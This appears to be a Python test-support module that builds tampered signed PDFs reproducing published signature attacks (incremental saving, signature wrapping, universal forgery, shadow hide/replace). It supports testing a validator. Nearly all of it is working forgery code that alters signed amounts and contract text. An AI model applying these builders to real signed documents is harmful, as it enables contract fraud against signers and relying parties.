"""Builders for the published attacks on PDF signatures.

* Incremental saving attacks (ISA, Mladenov et al., CCS 2019 "1 Trillion Dollar
  Refund"): content appended after signing, with or without a proper
  cross-reference section.
* Signature wrapping (SWA, same paper): the signed bytes stay intact but the
  ByteRange gap hides extra objects, or the ByteRange itself is rewritten.
* Universal signature forgery (USF, same paper): signature dictionaries with
  missing or emptied entries, to confuse validators into skipping checks.
* Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021): a "shadow document"
  is prepared *before* signing so that a harmless-looking update afterwards
  hides, replaces, or hides-and-replaces what was signed.

Each shadow builder returns ``(prepared_unsigned_pdf, attack(signed) -> bytes)``.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from tests.signer.support import byte_range

Attack = Callable[[bytes], bytes]

_HELV = generic.DictionaryObject(
    {
        generic.NameObject("/Type"): generic.NameObject("/Font"),
        generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
        generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
        generic.NameObject("/Encoding"): generic.NameObject("/WinAnsiEncoding"),
    }
)


def _write(w: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _stream(data: bytes, **entries: generic.PdfObject) -> generic.StreamObject:
    return generic.StreamObject({generic.NameObject(f"/{k}"): v for k, v in entries.items()}, stream_data=data)


def _first_page(w: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page = w.root["/Pages"]["/Kids"][0].get_object()
    assert isinstance(page, generic.DictionaryObject)
    return page


def _page_text_stream(w: IncrementalPdfFileWriter, text: bytes, y: int = 680) -> generic.IndirectObject:
    return w.add_object(_stream(b"BT /PactumHelv 12 Tf 72 %d Td (%s) Tj ET" % (y, text)))


def _ensure_helv(w: IncrementalPdfFileWriter, page: generic.DictionaryObject) -> None:
    res = page["/Resources"]
    fonts = res.get("/Font")
    if fonts is None:
        res[generic.NameObject("/Font")] = fonts = generic.DictionaryObject()
    fonts = fonts.get_object()
    fonts[generic.NameObject("/PactumHelv")] = w.add_object(_HELV.clone() if hasattr(_HELV, "clone") else _HELV)
    w.update_container(fonts)
    w.update_container(res)
    w.update_container(page)


def _contents_array(page: generic.DictionaryObject) -> generic.ArrayObject:
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        return contents
    arr = generic.ArrayObject([contents])
    page[generic.NameObject("/Contents")] = arr
    return arr


# ---------------------------------------------------------------------------
# incremental saving attacks
# ---------------------------------------------------------------------------


def isa_append_page(signed: bytes) -> bytes:
    """Append a whole new page after signing."""
    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    page1 = _first_page(w)
    content = w.add_object(_stream(b"BT /F1 24 Tf 72 700 Td (Appendix: Party B waives all claims) Tj ET"))
    new_page = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/MediaBox"): page1["/MediaBox"],
            generic.NameObject("/Resources"): generic.DictionaryObject(),
            generic.NameObject("/Contents"): content,
        }
    )
    w.insert_page(new_page)
    return _write(w)


def isa_replace_content(signed: bytes) -> bytes:
    """Replace page 1's content stream in an update with a normal xref section."""
    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    page = _first_page(w)
    _ensure_helv(w, page)
    page[generic.NameObject("/Contents")] = _page_text_stream(w, b"Amount: CNY 999,999", 700)
    w.update_container(page)
    return _write(w)


def isa_no_xref(signed: bytes) -> bytes:
    """Append an overriding object body without xref/trailer (viewers 'repair' it)."""
    reader = PdfFileReader(io.BytesIO(signed))
    page = reader.root["/Pages"]["/Kids"][0]
    contents = page.get_object().raw_get("/Contents")
    ref = contents[0] if isinstance(contents, generic.ArrayObject) else contents
    payload = b"BT /F1 24 Tf 72 700 Td (Amount: CNY 999,999) Tj ET"
    body = b"\n%d %d obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n" % (
        ref.idnum,
        ref.generation,
        len(payload),
        payload,
    )
    return signed + body


# ---------------------------------------------------------------------------
# signature wrapping
# ---------------------------------------------------------------------------


def swa_gap_injection(signed: bytes) -> bytes:
    """Hide an object inside the unsigned ByteRange gap (after the real CMS)."""
    br = byte_range(signed, -1)
    gap_start, gap_end = br[1], br[2]
    gap = signed[gap_start:gap_end]
    assert gap.startswith(b"<") and gap.endswith(b">")
    hexdata = gap[1:-1]
    real = hexdata.rstrip(b"0")
    real += b"0" * (len(real) % 2)
    injected = b"> \n999 0 obj\n(Amount: CNY 999,999)\nendobj\n"
    filler_len = len(gap) - 1 - len(real) - len(injected)
    assert filler_len > 0
    new_gap = b"<" + real + injected + b" " * filler_len
    new_gap = new_gap[:-1] + b" "
    assert len(new_gap) == len(gap)
    return signed[:gap_start] + new_gap + signed[gap_end:]


def swa_byterange_rewrite(signed: bytes) -> bytes:
    """Rewrite /ByteRange to leave the file's tail unsigned, then change the tail."""
    m = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", signed))[-1]
    a, b, c, d = (int(x) for x in m.groups())
    new = b"/ByteRange [%d %d %d %d]" % (a, b, c, d - 120)
    new = new.ljust(len(m.group(0)), b" ")
    if len(new) > len(m.group(0)):
        new = (b"/ByteRange[%d %d %d %d]" % (a, b, c, d - 120)).ljust(len(m.group(0)), b" ")
    out = signed[: m.start()] + new + signed[m.end() :]
    return out + b"\n% unsigned tail appended by the attacker\n"


# ---------------------------------------------------------------------------
# universal signature forgery
# ---------------------------------------------------------------------------


def usf_rename_key(signed: bytes, key: bytes) -> bytes:
    """Make a signature dictionary entry disappear (same length, so offsets hold)."""
    idx = signed.rfind(key)
    assert idx > 0
    broken = key[:-1] + b"X"
    return signed[:idx] + broken + signed[idx + len(key) :]


def usf_zero_contents(signed: bytes) -> bytes:
    br = byte_range(signed, -1)
    gap_len = br[2] - br[1]
    return signed[: br[1]] + b"<" + b"0" * (gap_len - 2) + b">" + signed[br[2] :]


# ---------------------------------------------------------------------------
# shadow attacks (prepared before signing)
# ---------------------------------------------------------------------------


def shadow_hide(pdf: bytes) -> tuple[bytes, Attack]:
    """Hide: a cover XObject paints over the attacker's text; later it is emptied."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(w)
    _ensure_helv(w, page)
    cover_form = _stream(
        b"1 g 60 640 480 80 re f 0 g BT /PactumHelv 14 Tf 72 670 Td (Amount: CNY 100,000) Tj ET",
        Type=generic.NameObject("/XObject"),
        Subtype=generic.NameObject("/Form"),
        BBox=generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)]),
        Resources=generic.DictionaryObject(
            {
                generic.NameObject("/Font"): generic.DictionaryObject(
                    {generic.NameObject("/PactumHelv"): w.add_object(_HELV)}
                )
            }
        ),
    )
    cover_ref = w.add_object(cover_form)
    res = page["/Resources"].get_object()
    xobjs = res.get("/XObject")
    if xobjs is None:
        res[generic.NameObject("/XObject")] = xobjs = generic.DictionaryObject()
    xobjs = xobjs.get_object()
    xobjs[generic.NameObject("/PactumCover")] = cover_ref
    arr = _contents_array(page)
    arr.append(_page_text_stream(w, b"Amount: CNY 900,000", 670))
    arr.append(w.add_object(_stream(b"q /PactumCover Do Q")))
    w.update_container(res)
    w.update_container(page)
    prepared = _write(w)

    def attack(signed: bytes) -> bytes:
        w2 = IncrementalPdfFileWriter(io.BytesIO(signed))
        empty = _stream(
            b"",
            Type=generic.NameObject("/XObject"),
            Subtype=generic.NameObject("/Form"),
            BBox=generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 1, 1)]),
        )
        w2.objects[(cover_ref.generation, cover_ref.idnum)] = empty
        return _write(w2)

    return prepared, attack


def shadow_hide_xref_only(pdf: bytes) -> tuple[bytes, Attack]:
    """Hide via referenced object: the update is only an xref section that points
    the cover's object number at an empty object already in the signed file."""
    prepared, _ = shadow_hide(pdf)
    w = IncrementalPdfFileWriter(io.BytesIO(prepared))
    empty_ref = w.add_object(
        _stream(
            b"",
            Type=generic.NameObject("/XObject"),
            Subtype=generic.NameObject("/Form"),
            BBox=generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 1, 1)]),
        )
    )
    prepared2 = _write(w)
    reader = PdfFileReader(io.BytesIO(prepared2))
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    cover = page["/Resources"]["/XObject"].raw_get("/PactumCover")
    m = re.search(rb"\n%d 0 obj" % empty_ref.idnum, prepared2)
    assert m is not None
    empty_offset = m.start() + 1

    def attack(signed: bytes) -> bytes:
        prev = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
        size = PdfFileReader(io.BytesIO(signed)).trailer["/Size"]
        root = PdfFileReader(io.BytesIO(signed)).trailer.raw_get("/Root")
        xref_pos = len(signed) + 1
        section = (
            b"\nxref\n%d 1\n%010d %05d n \ntrailer\n<< /Size %d /Root %d %d R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (cover.idnum, empty_offset, cover.generation, size, root.idnum, root.generation, prev, xref_pos)
        )
        return signed + section

    return prepared2, attack


def shadow_replace_overlay(form_pdf: bytes) -> Attack:
    """Replace via overlay: fill the pre-placed, empty text field lying over the
    signed amount with an opaque appearance. The diff policy calls it form filling."""

    def attack(signed: bytes) -> bytes:
        return fill_text_field(signed, "amount_overlay", "Amount: CNY 999,999", opaque=True)

    return attack


def fill_text_field(signed: bytes, name: str, value: str, *, opaque: bool) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    fields = w.root["/AcroForm"]["/Fields"]
    field = next(f.get_object() for f in fields if f.get_object().get("/T") == name)
    x1, y1, x2, y2 = (float(v) for v in field["/Rect"])
    width, height = x2 - x1, y2 - y1
    bg = b"1 g 0 0 %.1f %.1f re f " % (width, height) if opaque else b""
    ap = _stream(
        b"/Tx BMC q " + bg + b"0 g BT /PactumHelv 12 Tf 2 6 Td (" + value.encode("latin-1") + b") Tj ET Q EMC",
        Type=generic.NameObject("/XObject"),
        Subtype=generic.NameObject("/Form"),
        BBox=generic.ArrayObject(
            [generic.FloatObject(0), generic.FloatObject(0), generic.FloatObject(width), generic.FloatObject(height)]
        ),
        Resources=generic.DictionaryObject(
            {
                generic.NameObject("/Font"): generic.DictionaryObject(
                    {generic.NameObject("/PactumHelv"): w.add_object(_HELV)}
                )
            }
        ),
    )
    field[generic.NameObject("/V")] = generic.TextStringObject(value)
    field[generic.NameObject("/AP")] = generic.DictionaryObject({generic.NameObject("/N"): w.add_object(ap)})
    w.update_container(field)
    return _write(w)


def shadow_replace_font(pdf: bytes) -> tuple[bytes, Attack]:
    """Replace via font: after signing, an /Encoding /Differences entry makes the
    glyph for '1' draw as '9' (CNY 100,000 reads CNY 900,000)."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(w)
    _ensure_helv(w, page)
    _contents_array(page).append(_page_text_stream(w, b"Total: CNY 100,000", 620))
    w.update_container(page)
    prepared = _write(w)

    def attack(signed: bytes) -> bytes:
        w2 = IncrementalPdfFileWriter(io.BytesIO(signed))
        font = _first_page(w2)["/Resources"]["/Font"].raw_get("/PactumHelv").get_object()
        font[generic.NameObject("/Encoding")] = generic.DictionaryObject(
            {
                generic.NameObject("/BaseEncoding"): generic.NameObject("/WinAnsiEncoding"),
                generic.NameObject("/Differences"): generic.ArrayObject(
                    [generic.NumberObject(49), generic.NameObject("/nine")]
                ),
            }
        )
        w2.update_container(font)
        return _write(w2)

    return prepared, attack


def shadow_hide_and_replace(pdf: bytes) -> tuple[bytes, Attack]:
    """Hide-and-replace: a complete second page tree is pre-placed (unused); the
    update only points the catalog's /Pages at it."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page1 = _first_page(w)
    content = w.add_object(_stream(b"BT /PactumHelv 20 Tf 72 700 Td (Contract void. Party A pays CNY 999,999.) Tj ET"))
    evil_pages_ref = w.allocate_placeholder()
    evil_page = w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Page"),
                generic.NameObject("/Parent"): evil_pages_ref,
                generic.NameObject("/MediaBox"): page1["/MediaBox"],
                generic.NameObject("/Resources"): generic.DictionaryObject(
                    {
                        generic.NameObject("/Font"): generic.DictionaryObject(
                            {generic.NameObject("/PactumHelv"): w.add_object(_HELV)}
                        )
                    }
                ),
                generic.NameObject("/Contents"): content,
            }
        )
    )
    w.add_object(
        generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Pages"),
                generic.NameObject("/Kids"): generic.ArrayObject([evil_page]),
                generic.NameObject("/Count"): generic.NumberObject(1),
            }
        ),
        idnum=evil_pages_ref.idnum,
    )
    prepared = _write(w)

    def attack(signed: bytes) -> bytes:
        w2 = IncrementalPdfFileWriter(io.BytesIO(signed))
        w2.root[generic.NameObject("/Pages")] = generic.IndirectObject(
            evil_pages_ref.idnum, evil_pages_ref.generation, w2
        )
        w2.update_root()
        return _write(w2)

    return prepared, attack


def shadow_reveal_undefined_object(pdf: bytes, page: int = 0) -> tuple[bytes, Attack]:
    """Hide, then reveal, through an object number nothing defines yet.

    Before signing, the page's content array gets a reference to an object number
    no cross-reference section defines: a reader draws nothing for it (ISO 32000-1
    7.3.10: null). After signing, an update that only *adds* that object, a cover
    box with a new amount, makes it visible. The update holds one new object and
    nothing else; pyHanko finds it through the signed revision's use of the number."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_dict = w.root["/Pages"]["/Kids"][page].get_object()
    _ensure_helv(w, page_dict)
    hidden = w.allocate_placeholder()  # reserved, never written: undefined in the signed file
    _contents_array(page_dict).append(hidden)
    w.update_container(page_dict)
    prepared = _write(w)

    def attack(signed: bytes) -> bytes:
        cover = b"q 1 g 60 690 440 30 re f Q BT /PactumHelv 14 Tf 72 700 Td (Amount: CNY 999,999) Tj ET"
        return _append_object(signed, hidden.idnum, b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cover), cover))

    return prepared, attack


def _append_object(signed: bytes, idnum: int, body: bytes) -> bytes:
    """An incremental update that only defines object ``idnum`` (a classic xref section)."""
    trailer = PdfFileReader(io.BytesIO(signed)).trailer
    prev = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    root = trailer.raw_get("/Root")
    obj_pos = len(signed) + 1
    obj = b"\n%d 0 obj\n%s\nendobj\n" % (idnum, body)
    xref_pos = len(signed) + len(obj)
    size = max(int(trailer["/Size"]), idnum + 1)
    section = (
        b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d %d R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (idnum, obj_pos, size, root.idnum, root.generation, prev, xref_pos)
    )
    return signed + obj + section
